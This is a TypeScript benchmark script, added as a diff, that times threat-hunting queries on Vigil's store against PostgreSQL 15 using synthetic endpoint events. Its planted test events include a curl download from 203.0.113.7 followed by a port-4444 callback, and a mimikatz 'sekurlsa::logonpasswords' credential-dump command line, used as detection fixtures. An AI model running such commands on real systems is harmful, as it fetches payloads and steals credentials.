@@ -1,0 +1,595 @@
+// Hunt benchmark: the standard hunt suite on Vigil's embedded store (queries compiled by @vigil/hunt) and on a throw-away
+// PostgreSQL 15 with b-tree and trigram indexes, same data, results cross-checked. Loopback only; removes everything it starts.
+
+import { readdirSync, rmSync, mkdirSync, mkdtempSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join, relative, resolve } from 'node:path';
+import { performance } from 'node:perf_hooks';
+import { fileURLToPath } from 'node:url';
+import pg from 'pg';
+import { compileHunt } from '@vigil/hunt';
+import { checkEvent, type VigilEvent } from '@vigil/schema';
+import { createDuckDbStore } from '@vigil/store';
+import { createCleanupRegistry } from './internal/cleanup.js';
+import { updateBenchmarkDocs } from './internal/docs-section.js';
+import { createAgentEventStream, createRandom, type BenchEvent } from './internal/event-generator.js';
+import { parseOptions } from './internal/options.js';
+import { pgBatchParams, pgIndexNames, pgInsertQuery, pgSchemaSql } from './internal/pg-events.js';
+import { startTempPostgres } from './internal/postgres.js';
+import { formatInt, machineInfo, markdownTable, percentile, round, textTable } from './internal/report.js';
+
+const options = parseOptions(
+  {
+    events: { description: 'events generated and loaded into both engines (the issue asks for 10000000)', default: 1_000_000 },
+    hosts: { description: 'simulated hosts the events are spread over', default: 20 },
+    days: { description: 'days the events span (timestamps evenly spread with jitter)', default: 7 },
+    runs: { description: 'timed runs per query and engine, after one warm-up', default: 5 },
+    seed: { description: 'seed of the event generator', default: 1 },
+    'pg-port': { description: 'loopback port of the temporary PostgreSQL cluster', default: 25433 },
+    'update-docs': { description: 'write the measured table into docs/benchmarks.md (section "## hunt")', default: false },
+  },
+  process.argv.slice(2),
+);
+const totalEvents = Math.floor(options.events);
+const hostCount = Math.floor(options.hosts);
+const runs = Math.max(1, Math.floor(options.runs));
+if (hostCount < 1 || totalEvents < hostCount * 2000) throw new Error('need --hosts >= 1 and at least 2,000 events per host');
+
+const here = dirname(fileURLToPath(import.meta.url));
+const repoRoot = resolve(here, '../..');
+const resultsDir = join(repoRoot, 'bench', 'results');
+const log = (line: string) => process.stderr.write(line + '\n');
+const cleanup = createCleanupRegistry(log);
+
+/** Batch size of one `append` (and one PostgreSQL insert), per host. */
+const BATCH = 2000;
+/** Planted across all hosts; each count is split evenly over the hosts. */
+const CHAIN_COUNT = 200;
+const CHAIN_DEPTH = 8;
+const SEQUENCE_PAIRS = 500;
+const MIMIKATZ_EVENTS = 50;
+/** Planted chain pids start here, above any pid the generator produces (it wraps at 4,194,000). */
+const CHAIN_PID_BASE = 9_000_000;
+const TARGET_RATIO = 10;
+const TARGET_P50_MS = 300;
+
+// ---- data ----
+
+interface Dataset {
+  hosts: { id: string; events: BenchEvent[] }[];
+  /** One chain root per host: host id and pid. */
+  chainRoots: { hostId: string; pid: number }[];
+  exactHash: string;
+  exactHashCount: number;
+  iocs: string[];
+  iocsPresent: number;
+  startMs: number;
+  endMs: number;
+}
+
+function hex64(random: () => number): string {
+  let out = '';
+  for (let i = 0; i < 8; i++) out += Math.floor(random() * 0x100000000).toString(16).padStart(8, '0');
+  return out;
+}
+
+function firstOf(stream: ReturnType<typeof createAgentEventStream>, category: string): Record<string, unknown> {
+  for (;;) {
+    const event = stream.next(1)[0] as unknown as Record<string, unknown>;
+    if (event['event.category'] === category) return event;
+  }
+}
+
+/** Splits `total` over `parts` as evenly as possible; part i gets the i-th share. */
+function share(total: number, parts: number, i: number): number {
+  return Math.floor(total / parts) + (i < total % parts ? 1 : 0);
+}
+
+function generateDataset(): Dataset {
+  const startMs = Date.UTC(2026, 10, 1);
+  const spanMs = options.days * 86_400_000;
+  const hosts: Dataset['hosts'] = [];
+  const chainRoots: Dataset['chainRoots'] = [];
+  for (let h = 0; h < hostCount; h++) {
+    const hostId = `00000000-0000-4000-8000-${String(h + 1).padStart(12, '0')}`;
+    const hostName = `hunt-host-${String(h + 1).padStart(3, '0')}.corp.example.com`;
+    const stream = createAgentEventStream(hostId, hostName, options.seed * 1000 + h, startMs);
+    const random = createRandom(options.seed * 7919 + h);
+    const count = share(totalEvents, hostCount, h);
+    const blocks: Record<string, unknown>[][] = [];
+
+    // Process chains of depth CHAIN_DEPTH, every inner node with one extra leaf child, in start order.
+    for (let c = 0; c < share(CHAIN_COUNT, hostCount, h); c++) {
+      const base = CHAIN_PID_BASE + (h * CHAIN_COUNT + c) * 100;
+      const block: Record<string, unknown>[] = [];
+      for (let d = 0; d < CHAIN_DEPTH; d++) {
+        const node = { ...firstOf(stream, 'process'), 'process.pid': base + d, 'process.parent.pid': d === 0 ? 1 : base + d - 1 };
+        block.push(node);
+        if (d > 0 && d < CHAIN_DEPTH - 1) block.push({ ...firstOf(stream, 'process'), 'process.pid': base + 50 + d, 'process.parent.pid': base + d - 1 });
+      }
+      if (c === 0) chainRoots.push({ hostId, pid: base });
+      blocks.push(block);
+    }
+    // curl followed seconds later by a connection to port 4444 by the same host.
+    for (let s = 0; s < share(SEQUENCE_PAIRS, hostCount, h); s++) {
+      const curl = { ...firstOf(stream, 'process'), 'process.executable': '/usr/bin/curl', 'process.name': 'curl', 'process.args': ['curl', '-sO', 'http://203.0.113.7/x'], 'process.command_line': 'curl -sO http://203.0.113.7/x' };
+      const connect: Record<string, unknown> = { ...firstOf(stream, 'network'), 'process.executable': '/tmp/x', 'process.name': 'x', 'process.args': ['/tmp/x'], 'process.command_line': '/tmp/x', 'destination.port': 4444, 'destination.ip': '203.0.113.7', 'network.type': 'ipv4' };
+      if (typeof connect['source.ip'] === 'string' && connect['source.ip'].includes(':')) connect['source.ip'] = '10.0.1.9';
+      blocks.push([curl, connect]);
+    }
+    for (let m = 0; m < share(MIMIKATZ_EVENTS, hostCount, h); m++) {
+      const args = ['/tmp/mimikatz', 'privilege::debug', 'sekurlsa::logonpasswords', 'exit'];
+      blocks.push([{ ...firstOf(stream, 'process'), 'process.executable': '/tmp/mimikatz', 'process.name': 'mimikatz', 'process.args': args, 'process.command_line': args.join(' ') }]);
+    }
+    const planted = blocks.reduce((n, b) => n + b.length, 0);
+    const background = stream.next(count - planted) as unknown as Record<string, unknown>[];
+    // Blocks go in at random positions, each kept contiguous so its events stay seconds apart and in order.
+    const positions = blocks.map(() => Math.floor(random() * background.length)).sort((a, b) => a - b);
+    const events: Record<string, unknown>[] = [];
+    let next = 0;
+    for (let b = 0; b < blocks.length; b++) {
+      while (next < positions[b]!) events.push(background[next++]!);
+      events.push(...blocks[b]!);
+    }
+    while (next < background.length) events.push(background[next++]!);
+    const step = spanMs / events.length;
+    for (let i = 0; i < events.length; i++) {
+      const event = events[i]!;
+      event['event.sequence'] = i + 1;
+      event['@timestamp'] = new Date(startMs + Math.floor(i * step + random() * step * 0.5)).toISOString();
+    }
+    for (const block of blocks) {
+      for (const event of block) {
+        const check = checkEvent(event, 'planted');
+        if (check.problems.length) throw new Error(`planted event fails the schema: ${JSON.stringify(check.problems)}`);
+      }
+    }
+    hosts.push({ id: hostId, events: events as unknown as BenchEvent[] });
+  }
+
+  const hashCounts = new Map<string, number>();
+  for (const host of hosts) {
+    for (const event of host.events) {
+      const hash = (event as unknown as Record<string, unknown>)['process.hash.sha256'];
+      if (typeof hash === 'string') hashCounts.set(hash, (hashCounts.get(hash) ?? 0) + 1);
+    }
+  }
+  const byCount = [...hashCounts].sort((a, b) => Math.abs(a[1] - 100) - Math.abs(b[1] - 100) || (a[0] < b[0] ? -1 : 1));
+  const [exactHash, exactHashCount] = byCount[0]!;
+  const present = [...hashCounts.keys()].sort();
+  const random = createRandom(options.seed * 104729);
+  const iocs: string[] = [];
+  const wantPresent = Math.min(500, present.length);
+  for (let i = 0; i < wantPresent; i++) iocs.push(present[Math.floor((i * present.length) / wantPresent)]!);
+  while (iocs.length < 1000) {
+    const hash = hex64(random);
+    if (!hashCounts.has(hash)) iocs.push(hash);
+  }
+  return { hosts, chainRoots, exactHash, exactHashCount, iocs, iocsPresent: wantPresent, startMs, endMs: startMs + spanMs };
+}
+
+// ---- queries ----
+
+type Rows = Record<string, unknown>[];
+
+interface HuntCase {
+  name: string;
+  /** What the user runs in Vigil (hunting language), or the recursive SQL for the process tree. */
+  vigilText: string;
+  /** Run one after the other; their rows are concatenated (the IOC sweep needs two: a query is at most 65,536 characters). */
+  vigil: { sql: string; params: readonly (string | number | boolean)[] }[];
+  postgres: { text: string; values: unknown[] };
+  /** Canonical result used to cross-check both engines; equal strings mean equal results. */
+  digestVigil(rows: Rows): string;
+  digestPostgres(rows: Rows): string;
+  /** Counts may differ by definition (fuzzy): report, do not abort. */
+  mayDiffer?: boolean;
+  describe(digest: string): string;
+}
+
+const num = (v: unknown) => Number(v);
+function isoOf(value: unknown): string {
+  if (value instanceof Date) return value.toISOString();
+  const text = String(value);
+  return new Date(/[zZ]|[+-]\d\d:?\d\d$/.test(text) ? text : text.replace(' ', 'T') + 'Z').toISOString();
+}
+const countDigest = (rows: Rows) => String(num(rows[0]?.['count'] ?? rows[0]?.['n']));
+
+function compile(...texts: string[]): HuntCase['vigil'] {
+  return texts.map((text) => {
+    const compiled = compileHunt(text, { limit: 100_000 });
+    return { sql: compiled.sql, params: compiled.params };
+  });
+}
+
+const treeSql = (table: string, host: string, pid: string, ppid: string, p1: string, p2: string) =>
+  `WITH RECURSIVE tree(host_id, pid, depth) AS (
+  SELECT r.${host}, r.${pid}, 0 FROM ${table} AS r WHERE r.${host} = ${p1} AND r.${pid} = ${p2}
+  UNION
+  SELECT e.${host}, e.${pid}, t.depth + 1 FROM ${table} AS e JOIN tree AS t ON e.${host} = t.host_id AND e.${ppid} = t.pid WHERE t.depth < 32
+)
+SELECT count(DISTINCT pid) - 1 AS descendants, max(depth) AS depth FROM tree`;
+
+function buildSuite(data: Dataset): HuntCase[] {
+  const root = data.chainRoots[0]!;
+  const half = Math.ceil(data.iocs.length / 2);
+  const iocQuery = (hashes: readonly string[]) =>
+    `any where process.hash.sha256 in (${hashes.map((h) => JSON.stringify(h)).join(',')}) | stats count(), min(@timestamp) as first_seen by process.hash.sha256, host.id`;
+  const timechartDigest = (rows: Rows, tsKey: string) => rows.map((r) => `${isoOf(r[tsKey])}=${num(r['count'])}`).join(',');
+  const iocDigest = (rows: Rows, hashKey: string, hostKey: string, firstKey: string) =>
+    rows
+      .map((r) => `${String(r[hashKey])}|${String(r[hostKey])}|${num(r['count'])}|${isoOf(r[firstKey])}`)
+      .sort()
+      .join('\n');
+  const iocDescribe = (d: string) => {
+    const lines = d ? d.split('\n') : [];
+    return `${lines.length} (hash, host) rows, ${new Set(lines.map((l) => l.split('|')[0])).size} indicators found`;
+  };
+  const sequenceText = 'sequence by host.id maxspan=5m [process where process.name == "curl"] [network where destination.port == 4444] | stats count()';
+  return [
+    {
+      name: 'exact hash',
+      vigilText: `any where process.hash.sha256 == "${data.exactHash}"`,
+      vigil: compile(`any where process.hash.sha256 == "${data.exactHash}"`),
+      postgres: { text: 'SELECT * FROM events WHERE sha256 = $1 ORDER BY ts DESC, sequence DESC LIMIT 100000', values: [data.exactHash] },
+      digestVigil: (rows) => String(rows.length),
+      digestPostgres: (rows) => String(rows.length),
+      describe: (d) => `${d} events`,
+    },
+    {
+      name: 'substring on command line',
+      vigilText: 'process where process.command_line contains "/dev/shm/" | stats count()',
+      vigil: compile('process where process.command_line contains "/dev/shm/" | stats count()'),
+      postgres: { text: "SELECT count(*) AS count FROM events WHERE category = 'process' AND command_line ILIKE $1", values: ['%/dev/shm/%'] },
+      digestVigil: countDigest,
+      digestPostgres: countDigest,
+      describe: (d) => `${d} events`,
+    },
+    {
+      name: 'fuzzy free text',
+      vigilText: '~"mimikats" | stats count()',
+      vigil: compile('~"mimikats" | stats count()'),
+      postgres: { text: 'SELECT count(*) AS count FROM events WHERE $1 <% command_line', values: ['mimikats'] },
+      digestVigil: countDigest,
+      digestPostgres: countDigest,
+      mayDiffer: true,
+      describe: (d) => `${d} events`,
+    },
+    {
+      name: 'stats by process (top 20)',
+      vigilText: 'process | top 20 process.name',
+      vigil: compile('process | top 20 process.name'),
+      postgres: {
+        text: "SELECT process_name, count(*) AS count FROM events WHERE category = 'process' GROUP BY process_name ORDER BY count DESC, process_name ASC LIMIT 20",
+        values: [],
+      },
+      digestVigil: (rows) => rows.map((r) => `${String(r['process.name'])}=${num(r['count'])}`).join(','),
+      digestPostgres: (rows) => rows.map((r) => `${String(r['process_name'])}=${num(r['count'])}`).join(','),
+      describe: (d) => `${d.split(',').length} names, first ${d.split(',')[0]}`,
+    },
+    {
+      name: 'hourly timechart',
+      vigilText: 'any | timechart span=1h count()',
+      vigil: compile('any | timechart span=1h count()'),
+      postgres: { text: "SELECT date_trunc('hour', ts) AS bucket, count(*) AS count FROM events GROUP BY 1 ORDER BY 1", values: [] },
+      digestVigil: (rows) => timechartDigest(rows, '@timestamp'),
+      digestPostgres: (rows) => timechartDigest(rows, 'bucket'),
+      describe: (d) => `${d.split(',').length} hourly buckets`,
+    },
+    {
+      name: 'IOC sweep (1,000 sha256)',
+      vigilText: 'any where process.hash.sha256 in (<500 hashes>) | stats count(), min(@timestamp) as first_seen by process.hash.sha256, host.id (twice: 1,000 hashes exceed the 65,536-character query limit)',
+      vigil: compile(iocQuery(data.iocs.slice(0, half)), iocQuery(data.iocs.slice(half))),
+      postgres: {
+        text: 'SELECT sha256, host_id, count(*) AS count, min(ts) AS first_seen FROM events WHERE sha256 = ANY($1::text[]) GROUP BY sha256, host_id ORDER BY sha256, host_id',
+        values: [data.iocs],
+      },
+      digestVigil: (rows) => iocDigest(rows, 'process.hash.sha256', 'host.id', 'first_seen'),
+      digestPostgres: (rows) => iocDigest(rows, 'sha256', 'host_id', 'first_seen'),
+      describe: iocDescribe,
+    },
+    {
+      name: 'deep process tree',
+      vigilText: 'recursive SQL over events_process (same on both engines)',
+      vigil: [{ sql: treeSql('"events_process"', '"host.id"', '"process.pid"', '"process.parent.pid"', '$1', '$2'), params: [root.hostId, root.pid] }],
+      postgres: { text: treeSql("(SELECT host_id, pid, ppid FROM events WHERE category = 'process')", 'host_id', 'pid', 'ppid', '$1', '$2::bigint'), values: [root.hostId, root.pid] },
+      digestVigil: (rows) => `${num(rows[0]?.['descendants'])}/${num(rows[0]?.['depth'])}`,
+      digestPostgres: (rows) => `${num(rows[0]?.['descendants'])}/${num(rows[0]?.['depth'])}`,
+      describe: (d) => `${d.split('/')[0]} descendants, depth ${d.split('/')[1]}`,
+    },
+    {
+      name: 'two-step sequence',
+      vigilText: sequenceText,
+      vigil: compile(sequenceText),
+      postgres: {
+        // Same semantics as the compiled sequence: each curl extends to the earliest later 4444 connect of its host within
+        // 5 minutes; of the sequences ending on one connect, the one that started last is kept.
+        text: `WITH c2 AS (
+  SELECT s1.event_id AS id1, s1.ts AS ts1, n.event_id AS id2
+  FROM events AS s1
+  CROSS JOIN LATERAL (
+    SELECT e.event_id, e.ts FROM events AS e
+    WHERE e.category = 'network' AND e.destination_port = $2 AND e.host_id = s1.host_id AND e.ts > s1.ts AND e.ts <= s1.ts + $3::interval
+    ORDER BY e.ts, e.event_id LIMIT 1
+  ) AS n
+  WHERE s1.category = 'process' AND s1.process_name = $1
+)
+SELECT count(*) AS count FROM (SELECT DISTINCT ON (id2) id2 FROM c2 ORDER BY id2, ts1 DESC, id1 DESC) AS sequences`,
+        values: ['curl', 4444, '5 minutes'],
+      },
+      digestVigil: countDigest,
+      digestPostgres: countDigest,
+      describe: (d) => `${d} sequences`,
+    },
+  ];
+}
+
+// ---- engines ----
+
+const postgresSettings: Record<string, string> = {
+  shared_buffers: '2GB',
+  effective_cache_size: '8GB',
+  work_mem: '128MB',
+  maintenance_work_mem: '1GB',
+  max_wal_size: '8GB',
+  min_wal_size: '1GB',
+  wal_buffers: '64MB',
+  max_connections: '50',
+  random_page_cost: '1.1',
+  timezone: 'UTC',
+};
+
+/** Indexes a DBA adds for this suite on top of the ingest table's own (pgIndexNames). */
+const huntIndexSql: readonly [name: string, sql: string][] = [
+  ['events_command_line_trgm GIN (command_line gin_trgm_ops)', 'CREATE INDEX events_command_line_trgm ON events USING gin (command_line gin_trgm_ops)'],
+  ['events_category_process_name (category, process_name)', 'CREATE INDEX events_category_process_name ON events (category, process_name)'],
+  ['events_host_pid (host_id, pid)', 'CREATE INDEX events_host_pid ON events (host_id, pid)'],
+  ['events_host_ppid (host_id, ppid)', 'CREATE INDEX events_host_ppid ON events (host_id, ppid)'],
+  ['events_port_host_ts (destination_port, host_id, ts)', 'CREATE INDEX events_port_host_ts ON events (destination_port, host_id, ts)'],
+  ['events_ts (ts)', 'CREATE INDEX events_ts ON events (ts)'],
+  ['events_sha256_host_ts (sha256, host_id, ts)', 'CREATE INDEX events_sha256_host_ts ON events (sha256, host_id, ts)'],
+];
+
+function directoryBytes(dir: string): number {
+  let total = 0;
+  for (const entry of readdirSync(dir, { withFileTypes: true })) {
+    const path = join(dir, entry.name);
+    total += entry.isDirectory() ? directoryBytes(path) : statSync(path).size;
+  }
+  return total;
+}
+
+async function timeRuns(run: () => Promise<Rows>): Promise<{ rows: Rows; sortedMs: number[] }> {
+  let rows = await run();
+  const times: number[] = [];
+  for (let i = 0; i < runs; i++) {
+    const start = performance.now();
+    rows = await run();
+    times.push(performance.now() - start);
+  }
+  return { rows, sortedMs: times.sort((a, b) => a - b) };
+}
+
+interface QueryResult {
+  name: string;
+  vigilText: string;
+  vigilMs: number[];
+  postgresMs: number[];
+  vigilResult: string;
+  postgresResult: string;
+  match: boolean;
+}
+
+async function main(): Promise<void> {
+  const machine = machineInfo();
+  log(`hunt benchmark: ${formatInt(totalEvents)} events over ${hostCount} hosts and ${options.days} days; ${machine.cores} × ${machine.cpu_model}, ${machine.memory_gib} GiB`);
+  const genStart = performance.now();
+  const data = generateDataset();
+  log(`data    generated in ${((performance.now() - genStart) / 1000).toFixed(1)} s; exact hash occurs ${data.exactHashCount} times; ${data.iocsPresent} of 1,000 IOCs present`);
+
+  // Vigil: the real ingest path, append in batches of BATCH per host, hosts concurrently.
+  const work = mkdtempSync(join(tmpdir(), 'vigil-bench-hunt-'));
+  cleanup.add('remove vigil data', () => rmSync(work, { recursive: true, force: true }));
+  const store = createDuckDbStore({ dataDir: work });
+  await store.open();
+  let storeOpen = true;
+  cleanup.add('close vigil store', async () => void (storeOpen && (await store.close())));
+  const vigilStart = performance.now();
+  await Promise.all(
+    data.hosts.map(async (host) => {
+      for (let i = 0; i < host.events.length; i += BATCH) {
+        const batch = host.events.slice(i, i + BATCH) as unknown as VigilEvent[];
+        const ack = await store.append(host.id, batch);
+        if (ack.accepted !== batch.length) throw new Error(`vigil accepted ${ack.accepted} of ${batch.length} events of ${host.id}`);
+      }
+    }),
+  );
+  const vigilLoadS = (performance.now() - vigilStart) / 1000;
+  const vigilStored = (await store.countEvents({}, 'none')).reduce((n, r) => n + r.count, 0);
+  if (vigilStored !== totalEvents) throw new Error(`VERIFICATION FAILED: vigil stores ${vigilStored} events, expected ${totalEvents}`);
+  log(`vigil   loaded ${formatInt(totalEvents)} events in ${vigilLoadS.toFixed(1)} s (${formatInt(totalEvents / vigilLoadS)} events/s)`);
+
+  // PostgreSQL: the ingest table (b-tree indexes present during the load), then the hunt indexes, then VACUUM ANALYZE.
+  const server = await startTempPostgres(options['pg-port'], postgresSettings);
+  cleanup.add('stop postgres', () => server.stop());
+  log(`postgres pid ${server.pid} on 127.0.0.1:${server.port}`);
+  const loaders: pg.Client[] = [];
+  for (let i = 0; i < 4; i++) {
+    const client = new pg.Client({ host: server.host, port: server.port, user: server.user, database: 'postgres' });
+    await client.connect();
+    loaders.push(client);
+  }
+  cleanup.add('close postgres clients', async () => void (await Promise.allSettled(loaders.map((c) => c.end()))));
+  const db = loaders[0]!;
+  for (const sql of pgSchemaSql) await db.query(sql);
+  const queues = loaders.map(() => [] as ReturnType<typeof pgBatchParams>[]);
+  data.hosts.forEach((host, h) => {
+    for (let i = 0; i < host.events.length; i += BATCH) {
+      queues[h % loaders.length]!.push(pgBatchParams('json', Buffer.from(JSON.stringify({ events: host.events.slice(i, i + BATCH) }))));
+    }
+  });
+  const pgStart = performance.now();
+  await Promise.all(loaders.map(async (client, i) => { for (const params of queues[i]!) await client.query(pgInsertQuery('json', params)); }));
+  const pgLoadS = (performance.now() - pgStart) / 1000;
+  queues.length = 0;
+  const pgStored = Number((await db.query<{ n: string }>('SELECT count(*) AS n FROM events')).rows[0]!.n);
+  if (pgStored !== totalEvents) throw new Error(`VERIFICATION FAILED: PostgreSQL stores ${pgStored} rows, expected ${totalEvents}`);
+  log(`postgres loaded ${formatInt(totalEvents)} rows in ${pgLoadS.toFixed(1)} s (${formatInt(totalEvents / pgLoadS)} events/s)`);
+  const indexStart = performance.now();
+  await db.query('CREATE EXTENSION IF NOT EXISTS pg_trgm');
+  await Promise.all(huntIndexSql.map(([, sql], i) => loaders[i % loaders.length]!.query(sql)));
+  await db.query('VACUUM (ANALYZE) events');
+  const pgIndexS = (performance.now() - indexStart) / 1000;
+  log(`postgres hunt indexes + VACUUM ANALYZE in ${pgIndexS.toFixed(1)} s`);
+  const pgBytes = Number((await db.query<{ n: string }>("SELECT pg_total_relation_size('events') AS n")).rows[0]!.n);
+
+  const results: QueryResult[] = [];
+  for (const c of buildSuite(data)) {
+    const vigil = await timeRuns(async () => {
+      const rows: Rows = [];
+      for (const query of c.vigil) rows.push(...(await store.search(query)));
+      return rows;
+    });
+    const postgres = await timeRuns(async () => (await db.query(c.postgres.text, c.postgres.values)).rows as Rows);
+    const vigilResult = c.digestVigil(vigil.rows);
+    const postgresResult = c.digestPostgres(postgres.rows);
+    const match = vigilResult === postgresResult;
+    if (!match && !c.mayDiffer) {
+      throw new Error(`VERIFICATION FAILED: "${c.name}" differs\n  vigil:    ${vigilResult.slice(0, 2000)}\n  postgres: ${postgresResult.slice(0, 2000)}`);
+    }
+    results.push({ name: c.name, vigilText: c.vigilText, vigilMs: vigil.sortedMs, postgresMs: postgres.sortedMs, vigilResult: c.describe(vigilResult), postgresResult: c.describe(postgresResult), match });
+    log(`query   ${c.name}: vigil p50 ${percentile(vigil.sortedMs, 50).toFixed(1)} ms, postgres p50 ${percentile(postgres.sortedMs, 50).toFixed(1)} ms; ${c.describe(vigilResult)}${match ? '' : ` (postgres: ${c.describe(postgresResult)})`}`);
+  }
+
+  await store.close();
+  storeOpen = false;
+  const vigilBytes = directoryBytes(work);
+  await cleanup.runAll();
+
+  const rows = results.map((r) => {
+    const v = percentile(r.vigilMs, 50);
+    const p = percentile(r.postgresMs, 50);
+    const ratio = p / v;
+    return { r, v, p, ratio, meets: ratio >= TARGET_RATIO && v <= TARGET_P50_MS };
+  });
+  const header = ['query', 'vigil p50 ms', 'postgres p50 ms', 'ratio', 'target met', 'result'];
+  const tableRows = rows.map(({ r, v, p, ratio, meets }) => [
+    r.name,
+    v.toFixed(1),
+    p.toFixed(1),
+    `${ratio.toFixed(1)}x`,
+    meets ? 'yes' : 'no',
+    r.match ? r.vigilResult : `vigil ${r.vigilResult}; postgres ${r.postgresResult}`,
+  ]);
+  const vigilRate = totalEvents / vigilLoadS;
+  const pgRate = totalEvents / pgLoadS;
+  process.stdout.write(textTable(header, tableRows) + '\n\n');
+  process.stdout.write(
+    textTable(
+      ['load', 'vigil', 'postgres'],
+      [
+        ['events/s', formatInt(vigilRate), formatInt(pgRate)],
+        ['hunt index build + VACUUM ANALYZE s', 'n/a', pgIndexS.toFixed(1)],
+        ['stored bytes/event', formatInt(vigilBytes / totalEvents), formatInt(pgBytes / totalEvents)],
+      ],
+    ) + '\n',
+  );
+
+  const result = {
+    benchmark: 'hunt',
+    date: new Date().toISOString(),
+    events: totalEvents,
+    hosts: hostCount,
+    days: options.days,
+    runs_per_query: runs,
+    vigil_load_events_per_s: Math.round(vigilRate),
+    postgres_load_events_per_s: Math.round(pgRate),
+    postgres_index_build_s: round(pgIndexS, 1),
+    vigil_stored_bytes: vigilBytes,
+    postgres_stored_bytes: pgBytes,
+    targets: { ratio_at_least: TARGET_RATIO, vigil_p50_ms_at_most: TARGET_P50_MS, at_events: 10_000_000 },
+    queries: Object.fromEntries(
+      rows.map(({ r, v, p, ratio, meets }) => [
+        r.name,
+        {
+          vigil_p50_ms: round(v, 2),
+          postgres_p50_ms: round(p, 2),
+          ratio: round(ratio, 2),
+          meets_target: meets,
+          vigil_ms: r.vigilMs.map((x) => round(x, 2)),
+          postgres_ms: r.postgresMs.map((x) => round(x, 2)),
+          vigil_result: r.vigilResult,
+          postgres_result: r.postgresResult,
+          results_match: r.match,
+          vigil_query: r.vigilText,
+        },
+      ]),
+    ),
+    planted: { chains: CHAIN_COUNT, chain_depth: CHAIN_DEPTH, curl_4444_pairs: SEQUENCE_PAIRS, mimikatz_events: MIMIKATZ_EVENTS, exact_hash_occurrences: data.exactHashCount, iocs_present: data.iocsPresent },
+    postgres: { indexes: [...pgIndexNames, ...huntIndexSql.map(([name]) => name)], settings: postgresSettings },
+    machine,
+  };
+  mkdirSync(resultsDir, { recursive: true });
+  const out = join(resultsDir, 'hunt.json');
+  writeFileSync(out, JSON.stringify(result, null, 2) + '\n');
+  log(`results ${relative(process.cwd(), out)}`);
+
+  if (options['update-docs']) {
+    const flags = process.argv.slice(2).filter((a) => a !== '--update-docs');
+    const met = rows.filter((x) => x.meets).map((x) => x.r.name);
+    const file = updateBenchmarkDocs(
+      repoRoot,
+      'hunt',
+      [
+        '## hunt',
+        '',
+        `${formatInt(totalEvents)} generated Linux events (~70% process start, ~20% network connect, ~10% file create) from ${hostCount} hosts over`,
+        `${options.days} days, with planted activity: ${CHAIN_COUNT} process chains of depth ${CHAIN_DEPTH}, ${SEQUENCE_PAIRS} curl-then-port-4444 pairs and`,
+        `${MIMIKATZ_EVENTS} mimikatz runs. Vigil loads them in-process through the store's \`append\` (batches of ${BATCH} per host, hosts`,
+        'concurrently, durable acknowledgement) and answers the queries users run: each hunting-language query goes through `compileHunt` and',
+        "`EventStore.search`; the process tree is a recursive SQL query, the same on both engines. PostgreSQL 15 loads the same batches over",
+        '4 connections (`json_to_recordset`, one transaction per batch, fsync on) into the ingest benchmark\'s table with its b-tree indexes,',
+        'then gets the indexes a DBA would add for this suite and `VACUUM (ANALYZE)`; its queries are hand-written SQL with bound parameters.',
+        'Each query: 1 warm-up and ' + `${runs} timed runs per engine, one after the other; p50 is the median. Results are cross-checked`,
+        '(counts, top-20 list, hourly buckets, per-indicator host/first-seen/count rows, tree size and depth, sequence count) and the run aborts on',
+        "a difference, except fuzzy search, where Vigil's Levenshtein match over every text field and PostgreSQL's trigram `<%` (word",
+        'similarity ≥ 0.6) on the command line are different definitions.',
+        '',
+        'PostgreSQL indexes: ' + [...pgIndexNames, ...huntIndexSql.map(([name]) => name)].join('; ') + '.',
+        `PostgreSQL settings: ${Object.entries(postgresSettings).map(([k, v]) => `${k}=${v}`).join(', ')}.`,
+        '',
+        '```',
+        `npx tsc -b && npm run bench -- hunt${flags.length ? ' ' + flags.join(' ') : ''}`,
+        '```',
+        '',
+        `Machine: ${machine.cores} cores (\`nproc\`), ${machine.cpu_model}, ${machine.memory_gib} GiB RAM, Linux ${machine.kernel}, Node ${machine.node}. Date: ${result.date.slice(0, 10)}.`,
+        `The issue's size is \`--events 10000000\` (and 50,000,000 when time allows); this run used ${formatInt(totalEvents)} events.`,
+        '',
+        markdownTable(header.map((h) => (h === 'query' ? 'query' : h)), tableRows.map((r) => r.map((cell) => cell.replace(/\|/g, '\\|')))),
+        '',
+        markdownTable(
+          ['load', 'Vigil', 'PostgreSQL 15'],
+          [
+            ['events/s', formatInt(vigilRate), formatInt(pgRate)],
+            ['hunt index build + VACUUM ANALYZE (s)', 'n/a', pgIndexS.toFixed(1)],
+            ['stored bytes/event', formatInt(vigilBytes / totalEvents), formatInt(pgBytes / totalEvents)],
+          ],
+        ),
+        '',
+        `Target (issue, at 10M events): every query at least ${TARGET_RATIO}x faster than PostgreSQL and Vigil p50 at most ${TARGET_P50_MS} ms.`,
+        `Met in this run by ${met.length} of ${rows.length} queries${met.length ? ` (${met.join(', ')})` : ''}; "target met" above applies the`,
+        `same thresholds at ${formatInt(totalEvents)} events. Vigil's stored bytes are its whole data folder after close (database and journal);`,
+        "PostgreSQL's are the table with all its indexes (WAL not counted).",
+        '',
+      ].join('\n'),
+    );
+    log(`docs    ${relative(process.cwd(), file)} updated`);
+  }
+}
+
+main().catch(async (error: unknown) => {
+  if (cleanup.interrupted) return;
+  log(`hunt benchmark failed: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`);
+  await cleanup.runAll();
+  process.exit(1);
+});
